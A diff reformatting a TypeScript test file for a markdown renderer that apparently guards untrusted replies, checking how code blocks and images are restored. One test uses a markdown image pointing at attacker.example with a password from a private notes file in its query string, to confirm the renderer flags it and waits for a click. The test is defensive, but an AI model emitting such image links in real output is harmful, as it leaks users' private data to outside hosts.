@@ -11,7 +11,8 @@ import { restorePieces, type PieceOptions } from "../../../src/ui/untrusted/piec
 function restored(markdown: string, options: Partial<PieceOptions> = {}): HTMLElement {
 	const neutralised = neutraliseMarkdown(markdown, "n0");
 	const root = document.body.appendChild(document.createElement("div"));
-	for (const paragraph of neutralised.markdown.split("\n\n")) root.appendChild(document.createElement("p")).textContent = paragraph;
+	for (const paragraph of neutralised.markdown.split("\n\n"))
+		root.appendChild(document.createElement("p")).textContent = paragraph;
 	restorePieces(root, neutralised, { reads: [], ...options });
 	return root;
 }
@@ -26,7 +27,9 @@ describe("code put back", () => {
 
 	it("puts a block alone in its paragraph in that paragraph's place, with its language, highlighted", () => {
 		const highlighted: string[] = [];
-		const root = restored("Before\n\n```c++\nint x;\n```\n\nAfter", { highlight: (code, lang) => highlighted.push(`${lang}:${code.textContent ?? ""}`) });
+		const root = restored("Before\n\n```c++\nint x;\n```\n\nAfter", {
+			highlight: (code, lang) => highlighted.push(`${lang}:${code.textContent ?? ""}`),
+		});
 		expect(root.innerHTML).toBe('<p>Before</p><pre><code class="language-c++">int x;</code></pre><p>After</p>');
 		expect(highlighted).toEqual(["c++:int x;"]);
 	});
@@ -56,7 +59,9 @@ describe("code put back", () => {
 		const p = root.appendChild(document.createElement("p"));
 		p.append(neutralised.markdown, document.createElement("br"));
 		restorePieces(root, neutralised, { reads: [] });
-		expect(root.innerHTML).toBe('<li><pre><code class="language-sh">ls</code></pre></li><p><pre><code class="language-sh">ls</code></pre><br></p>');
+		expect(root.innerHTML).toBe(
+			'<li><pre><code class="language-sh">ls</code></pre></li><p><pre><code class="language-sh">ls</code></pre><br></p>',
+		);
 	});
 
 	it("leaves a marker of another reply (another nonce) or of no piece as the text it is", () => {
@@ -88,12 +93,16 @@ describe("an image put back", () => {
 	it("names no alt when it has none, and says when its address carries a read note's text", () => {
 		const reads = [{ path: "Private/Passwords.md", text: "Bank: tulip-Harbor-9917" }];
 		const root = restored("![](http://attacker.example:8080/p.png?d=tulip-Harbor-9917)", { reads });
-		expect(root.querySelector(".redline-image-placeholder")?.textContent).toBe("Image from attacker.example:8080 (its address contains text from Private/Passwords.md) · Load");
+		expect(root.querySelector(".redline-image-placeholder")?.textContent).toBe(
+			"Image from attacker.example:8080 (its address contains text from Private/Passwords.md) · Load",
+		);
 	});
 
 	it("loads only on a click: an <img> without referrer, handed to the guard before its source is set", () => {
 		const seen: (string | null)[] = [];
-		const root = restored("![a chart](https://charts.example/c.png)", { loading: (img) => seen.push(img.getAttribute("src")) });
+		const root = restored("![a chart](https://charts.example/c.png)", {
+			loading: (img) => seen.push(img.getAttribute("src")),
+		});
 		root.querySelector("button")?.click();
 		const img = root.querySelector("img");
 		expect(img?.getAttribute("src")).toBe("https://charts.example/c.png");
